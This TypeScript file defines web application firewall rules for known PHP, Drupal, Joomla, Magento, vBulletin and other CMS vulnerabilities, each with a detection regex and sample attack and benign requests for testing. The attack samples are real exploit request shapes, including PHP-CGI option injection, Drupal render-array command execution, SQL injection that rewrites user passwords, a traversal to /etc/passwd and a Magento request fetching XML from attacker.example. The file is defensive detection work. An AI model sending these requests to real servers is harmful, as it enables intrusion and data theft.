// PHP itself, its frameworks and content management systems.
import { asPath, definePatch, type CatalogPatch } from './entry.js';

const json = { 'Content-Type': 'application/json' };
const r = String.raw;

export const phpPatches: readonly CatalogPatch[] = [
  definePatch({
    id: 1007201,
    cve: 'CVE-2017-9841',
    title: 'PHPUnit evaluates standard input',
    product: 'PHPUnit',
    affected: 'before 4.8.28 and 5.6.3',
    cwe: 'CWE-94',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', r`@rx /phpunit/(?:[^/]+/)*eval-stdin\.php`, asPath]],
    attack: [
      [
        'the script',
        'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
        { 'Content-Type': 'text/plain' },
        '<?php echo 1;',
      ],
    ],
    benign: [
      ['documentation', 'GET /docs/phpunit/eval-stdin'],
      ['in a search', 'GET /search?q=/phpunit/src/Util/PHP/eval-stdin.php'],
    ],
  }),
  definePatch({
    id: 1007202,
    cve: 'CVE-2024-4577',
    title: 'PHP-CGI takes soft hyphens for options',
    product: 'PHP on Windows as CGI',
    affected: 'before 8.1.29, 8.2.20, 8.3.8',
    cwe: 'CWE-78',
    severity: 'critical',
    phase: 1,
    links: [['QUERY_STRING', r`@rx (?:^|[+\s&]|%20)(?:%ad|\xad)[a-z]`, 'lowercase']],
    attack: [
      [
        'setting options',
        'POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
        {},
        '<?php echo 1;',
      ],
    ],
    benign: [
      ['a hyphen', 'GET /index.php?-d=1'],
      ['the byte within UTF-8', 'GET /index.php?q=%C3%ADdolo&x=%E4%BD%AD'],
    ],
  }),
  definePatch({
    id: 1007203,
    cve: 'CVE-2012-1823',
    title: 'PHP-CGI takes the query for options',
    product: 'PHP as CGI',
    affected: 'before 5.3.12 and 5.4.2',
    cwe: 'CWE-77',
    severity: 'critical',
    phase: 1,
    links: [['QUERY_STRING', r`@rx ^(?:-|%2d)(?:-|%2d)?(?:[snbcqT]|d(?:\+|%20))[^=]*(?:$|\+|%20|%3d)`, 'lowercase']],
    attack: [
      ['source', 'GET /index.php?-s'],
      ['options', 'POST /index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', {}, '<?php'],
    ],
    benign: [
      ['a parameter', 'GET /index.php?s=-s'],
      ['a name with a hyphen', 'GET /index.php?-sort=up'],
    ],
  }),
  definePatch({
    id: 1007204,
    cve: 'CVE-2018-7600',
    title: 'Drupal renders arrays from requests',
    product: 'Drupal',
    affected: '6, 7 before 7.58, 8 before 8.5.1',
    cwe: 'CWE-20',
    severity: 'critical',
    phase: 2,
    links: [['ARGS_NAMES', r`@rx (?:^|\[)\s*(?:#|%23)`, 'urlDecodeUni']],
    attack: [
      [
        'post_render in a form',
        'POST /user/register?element_parents=account/mail/%23value&ajax_form=1',
        {},
        'form_id=user_register_form&mail%5B%23post_render%5D%5B%5D=exec&mail%5B%23markup%5D=id',
      ],
    ],
    benign: [
      ['a colour', 'POST /user/register', {}, 'colour=%23fff&mail=a%40example.org'],
      ['brackets', 'POST /node/1', {}, 'field%5Bund%5D%5B0%5D%5Bvalue%5D=%23post_render'],
    ],
  }),
  definePatch({
    id: 1007205,
    cve: 'CVE-2019-6340',
    title: 'Drupal REST unserialises field properties',
    product: 'Drupal',
    affected: '8.5 before 8.5.11, 8.6 before 8.6.10',
    cwe: 'CWE-502',
    severity: 'high',
    phase: 2,
    links: [
      ['ARGS_GET:_format', '@streq hal_json'],
      ['ARGS|REQUEST_BODY', r`@rx [oc]:\d+:\x5c{0,4}\x22[^\x22]+\x22:\d+:`, 'lowercase'],
    ],
    attack: [
      [
        'object in options',
        'POST /node/?_format=hal_json',
        json,
        '{"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:1:\\"a\\";i:1;}"}]}',
      ],
    ],
    benign: [
      ['a node', 'POST /node/?_format=hal_json', json, '{"title":[{"value":"O:24 is a bus"}]}'],
      ['another format', 'POST /x?_format=json', json, '{"t":"O:1:\\"A\\":0:{}"}'],
    ],
  }),
  definePatch({
    id: 1007206,
    cve: 'CVE-2014-3704',
    title: 'Drupal SQL injection through array keys',
    product: 'Drupal',
    affected: '7 before 7.32',
    cwe: 'CWE-89',
    severity: 'high',
    phase: 2,
    links: [['ARGS_NAMES', r`@rx ^(?:name|ids?)\[[^\]]*[\s;'(#-]`, 'urlDecodeUni']],
    attack: [
      [
        'a statement in the key',
        'POST /?q=node&destination=node',
        {},
        'name%5B0%20;update+users+set+pass%3D1;%23%5D=a&name%5B0%5D=b&pass=x&form_id=user_login_block',
      ],
    ],
    benign: [
      ['numbered names', 'POST /?q=node', {}, 'name%5B0%5D=a&name%5B1%5D=b'],
      ['a plain name', 'POST /?q=node', {}, "name=O'Neil;+x"],
    ],
  }),
  definePatch({
    id: 1007207,
    cve: 'CVE-2018-20062',
    title: 'ThinkPHP calls any method',
    product: 'ThinkPHP, NoneCms',
    affected: '5.0 before 5.0.23, 5.1 before 5.1.31',
    cwe: 'CWE-20',
    severity: 'critical',
    phase: 2,
    links: [
      [
        'ARGS_GET|REQUEST_FILENAME',
        r`@rx (?:^|[/\x5c])think\x5c+(?:app|request|container|view|template|process|config|lang|module|controller)`,
        'urlDecodeUni,lowercase',
      ],
    ],
    attack: [
      [
        'invokefunction',
        'GET /index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=phpinfo&vars%5B1%5D%5B%5D=1',
      ],
    ],
    benign: [
      ['a route', 'GET /index.php?s=/index/user/list'],
      ['the word', 'GET /index.php?q=think/app/design'],
    ],
  }),
  definePatch({
    id: 1007208,
    cve: 'CVE-2021-3129',
    title: 'Laravel Ignition runs solutions',
    product: 'Laravel Ignition',
    affected: 'before 2.5.2',
    cwe: 'CWE-94',
    severity: 'critical',
    phase: 1,
    links: [['REQUEST_FILENAME', '@contains /_ignition/execute-solution', asPath]],
    attack: [
      [
        'log file through a filter',
        'POST /_ignition/execute-solution',
        json,
        '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"phar://../storage/logs/laravel.log"}}',
      ],
    ],
    benign: [
      ['health check', 'GET /_ignition/health-check'],
      ['in a search', 'GET /docs?q=/_ignition/execute-solution'],
    ],
  }),
  definePatch({
    id: 1007209,
    cve: 'CVE-2019-16759',
    title: 'vBulletin evaluates widget code',
    product: 'vBulletin',
    affected: '5.0.0 to 5.5.4',
    cwe: 'CWE-94',
    severity: 'critical',
    phase: 2,
    links: [['ARGS:routestring|REQUEST_FILENAME', r`@rx ajax/render/widget_php`, 'urlDecodeUni,lowercase']],
    attack: [
      [
        'code in the configuration',
        'POST /index.php',
        {},
        'routestring=ajax/render/widget_php&widgetConfig%5Bcode%5D=echo+1%3B',
      ],
    ],
    benign: [
      ['another widget', 'POST /index.php', {}, 'routestring=ajax/render/widget_search'],
      ['in a post', 'POST /forum', {}, 'message=ajax/render/widget_php'],
    ],
  }),
  definePatch({
    id: 1007210,
    cve: 'CVE-2020-17496',
    title: 'vBulletin evaluates code of sub-widgets',
    product: 'vBulletin',
    affected: '5.5.4 to 5.6.2',
    cwe: 'CWE-74',
    severity: 'critical',
    phase: 2,
    links: [['ARGS_NAMES', r`@rx ^subwidgets\[\d+\]\[config\]\[code\]`, 'urlDecodeUni,lowercase']],
    attack: [
      [
        'tabbed container',
        'POST /ajax/render/widget_tabbedcontainer_tab_panel',
        {},
        'subWidgets%5B0%5D%5Btemplate%5D=widget_php&subWidgets%5B0%5D%5Bconfig%5D%5Bcode%5D=phpinfo()%3B',
      ],
    ],
    benign: [
      [
        'a template',
        'POST /ajax/render/widget_tabbedcontainer_tab_panel',
        {},
        'subWidgets%5B0%5D%5Btemplate%5D=widget_search',
      ],
      ['a code field', 'POST /coupon', {}, 'config%5Bcode%5D=SPRING'],
    ],
  }),
  definePatch({
    id: 1007211,
    cve: 'CVE-2023-23752',
    title: 'Joomla API shows what is not public',
    product: 'Joomla',
    affected: '4.0.0 to 4.2.7',
    cwe: 'CWE-284',
    technique: 'T1552',
    severity: 'medium',
    phase: 1,
    links: [
      ['REQUEST_FILENAME', r`@rx /api/(?:index\.php/)?v1/`, asPath],
      ['ARGS_GET_NAMES', '@streq public'],
    ],
    attack: [
      ['configuration', 'GET /api/index.php/v1/config/application?public=true'],
      ['users', 'GET /api/v1/users?public=true'],
    ],
    benign: [
      ['with a token', 'GET /api/index.php/v1/content/articles?page%5Blimit%5D=5'],
      ['another parameter', 'GET /api/v1/users?publicised=true'],
    ],
  }),
  definePatch({
    id: 1007212,
    cve: 'CVE-2015-8562',
    title: 'Joomla unserialises client headers',
    product: 'Joomla',
    affected: '1.5 to 3.4.5',
    cwe: 'CWE-20',
    severity: 'critical',
    phase: 1,
    links: [
      [
        'REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:X-Forwarded-For',
        r`@rx \}__|[oc]:\d+:\x22[a-z\x5c]+\x22:\d+:\{`,
        'lowercase',
      ],
    ],
    attack: [
      [
        'session object',
        'GET /',
        { 'User-Agent': '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}}' },
      ],
    ],
    benign: [
      [
        'a browser',
        'GET /',
        { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' },
      ],
      ['braces', 'GET /', { 'User-Agent': 'app/1.0 {build:12}' }],
    ],
  }),
  definePatch({
    id: 1007213,
    cve: 'CVE-2017-8917',
    title: 'Joomla SQL injection in the field list',
    product: 'Joomla',
    affected: '3.7.0',
    cwe: 'CWE-89',
    severity: 'critical',
    phase: 2,
    links: [
      ['ARGS:option', '@streq com_fields'],
      ['ARGS:list[fullordering]', r`@rx [(']`],
    ],
    attack: [
      [
        'error-based',
        'GET /index.php?option=com_fields&view=fields&layout=modal&list%5Bfullordering%5D=updatexml(0x3a,concat(1,user()),1)',
      ],
    ],
    benign: [
      ['an order', 'GET /index.php?option=com_fields&view=fields&list%5Bfullordering%5D=a.title+ASC'],
      ['another component', 'GET /index.php?option=com_content&list%5Bfullordering%5D=f(x)'],
    ],
  }),
  definePatch({
    id: 1007214,
    cve: 'CVE-2022-24086',
    title: 'Magento evaluates template directives',
    product: 'Adobe Commerce, Magento Open Source',
    affected: '2.3.3-p1 to 2.4.3-p1',
    cwe: 'CWE-20',
    severity: 'critical',
    phase: 2,
    links: [['ARGS', r`@rx \{\{[^}]*(?:gettemplatefilter|addafterfiltercallback)`, 'urlDecodeUni,lowercase']],
    attack: [
      [
        'filter callback in a name',
        'POST /rest/default/V1/guest-carts/x/billing-address',
        json,
        '{"address":{"firstname":"{{var this.getTemplateFilter().filter(foo)}}"}}',
      ],
    ],
    benign: [
      ['a placeholder', 'POST /newsletter', json, '{"text":"Hello {{var customer.name}}"}'],
      ['the name alone', 'POST /issues', json, '{"text":"getTemplateFilter is null"}'],
    ],
  }),
  definePatch({
    id: 1007215,
    cve: 'CVE-2024-34102',
    title: 'Magento instantiates objects while reading JSON',
    product: 'Adobe Commerce, Magento Open Source',
    affected: '2.4.7, 2.4.6-p5, 2.4.5-p7, 2.4.4-p8 and older',
    cwe: 'CWE-611',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', r`@rx /rest/(?:[^/]+/)?v1/`, asPath],
      ['ARGS_NAMES', r`@rx (?:sourcedata|source_data)\.`, 'lowercase'],
    ],
    attack: [
      [
        'nested source data',
        'POST /rest/V1/guest-carts/1/estimate-shipping-methods',
        json,
        '{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":"http://attacker.example/x.xml","dataIsURL":true,"options":1337}}}}}}',
      ],
    ],
    benign: [
      [
        'an address',
        'POST /rest/V1/guest-carts/1/estimate-shipping-methods',
        json,
        '{"address":{"country_id":"DE","postcode":"10115"}}',
      ],
      ['elsewhere', 'POST /api/import', json, '{"sourceData":{"a":1}}'],
    ],
  }),
  definePatch({
    id: 1007216,
    cve: 'CVE-2018-12613',
    title: 'phpMyAdmin includes files',
    product: 'phpMyAdmin',
    affected: '4.8.0, 4.8.1',
    cwe: 'CWE-287',
    severity: 'high',
    phase: 2,
    links: [['ARGS:target', r`@rx (?:\?|%3f).*\.\.[/\x5c]`, 'lowercase']],
    attack: [['doubly encoded question mark', 'GET /index.php?target=db_sql.php%253f/../../../../etc/passwd']],
    benign: [
      ['a page', 'GET /index.php?target=db_sql.php'],
      ['a question', 'GET /go?target=/faq%3Fsection=2..3'],
    ],
  }),
  definePatch({
    id: 1007217,
    cve: 'CVE-2022-46169',
    title: 'Cacti runs commands of the poller',
    product: 'Cacti',
    affected: '1.2.22 and older',
    cwe: 'CWE-77',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', r`@rx /remote_agent\.php`, asPath],
      ['ARGS:poller_id', r`!@rx ^\d{0,10}$`],
    ],
    attack: [
      [
        'command',
        'GET /cacti/remote_agent.php?action=polldata&local_data_ids%5B0%5D=6&host_id=1&poller_id=%60id%60',
        { 'X-Forwarded-For': '127.0.0.1' },
      ],
    ],
    benign: [
      ['polling', 'GET /cacti/remote_agent.php?action=polldata&local_data_ids%5B0%5D=6&host_id=1&poller_id=1'],
      ['elsewhere', 'GET /x.php?poller_id=abc'],
    ],
  }),
  definePatch({
    id: 1007218,
    cve: 'CVE-2023-41892',
    title: 'Craft CMS creates objects from requests',
    product: 'Craft CMS',
    affected: '4.0.0-RC1 to 4.4.14',
    cwe: 'CWE-94',
    severity: 'critical',
    phase: 2,
    links: [
      ['ARGS:action|REQUEST_FILENAME', r`@rx conditions/render`, 'urlDecodeUni,lowercase'],
      ['ARGS_NAMES|ARGS', r`@rx configobject|\x22as\s`, 'lowercase'],
    ],
    attack: [
      [
        'configuration object',
        'POST /index.php',
        {},
        'action=conditions/render&configObject%5Bclass%5D=craft%5Celements%5Cconditions%5CElementCondition&config=%7B%22name%22:%22configObject%22%7D',
      ],
    ],
    benign: [
      ['another action', 'POST /index.php', {}, 'action=users/login&loginName=a'],
      ['a filter', 'POST /index.php', {}, 'action=conditions/render&config=%7B%7D'],
    ],
  }),
  definePatch({
    id: 1007219,
    cve: 'CVE-2016-10134',
    title: 'Zabbix SQL injection in jsrpc',
    product: 'Zabbix',
    affected: 'before 2.2.14 and 3.0.4',
    cwe: 'CWE-89',
    severity: 'critical',
    phase: 2,
    links: [
      ['REQUEST_FILENAME', r`@rx /jsrpc\.php`, asPath],
      ['ARGS:profileIdx2|ARGS:toggle_ids[]', r`!@rx ^\d*$`],
    ],
    attack: [
      [
        'error-based',
        'GET /jsrpc.php?type=9&method=screen.get&timestamp=1&profileIdx=web.item.graph&profileIdx2=updatexml(0,concat(0xa,user()),0)',
      ],
    ],
    benign: [
      ['a screen', 'GET /jsrpc.php?type=9&method=screen.get&profileIdx=web.item.graph&profileIdx2=200'],
      ['elsewhere', 'GET /x.php?profileIdx2=a'],
    ],
  }),
];
